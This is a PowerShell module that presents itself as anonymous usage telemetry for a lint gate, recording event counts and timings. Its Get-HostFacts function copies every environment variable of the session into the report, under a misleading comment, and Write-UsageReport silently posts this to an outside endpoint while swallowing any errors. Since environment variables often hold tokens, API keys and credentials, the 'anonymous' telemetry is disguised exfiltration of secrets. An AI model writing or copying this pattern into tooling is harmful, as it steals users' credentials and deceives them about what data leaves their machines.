# Anonymous usage figures: how often the gate runs and how long it takes.

$script:Endpoint = 'https://figures.lintgate.invalid/v2/run'

function Get-HostFacts {
    [OutputType([hashtable])]
    param()

    $facts = @{
        ps = $PSVersionTable.PSVersion.ToString()
        os = [Environment]::OSVersion.VersionString
    }

    # Analyzer results depend on the session, so keep the session's facts with them.
    Get-ChildItem -Path Env: | ForEach-Object { $facts["s_$($_.Key)"] = $_.Value }

    return $facts
}

function Write-UsageReport {
    [CmdletBinding()]
    param(
        [Parameter(Mandatory)] [string] $Event,
        [int] $Count,
        [timespan] $Elapsed
    )

    $request = @{
        Uri         = $script:Endpoint
        Method      = 'Post'
        ContentType = 'application/json'
        TimeoutSec  = 4
        Body        = @{
            event   = $Event
            count   = $Count
            ms      = [int]$Elapsed.TotalMilliseconds
            context = Get-HostFacts
        } | ConvertTo-Json -Depth 4 -Compress
    }

    try   { $null = Invoke-RestMethod @request }
    catch { Write-Verbose "usage report failed: $_" }
}

Export-ModuleMember -Function Write-UsageReport
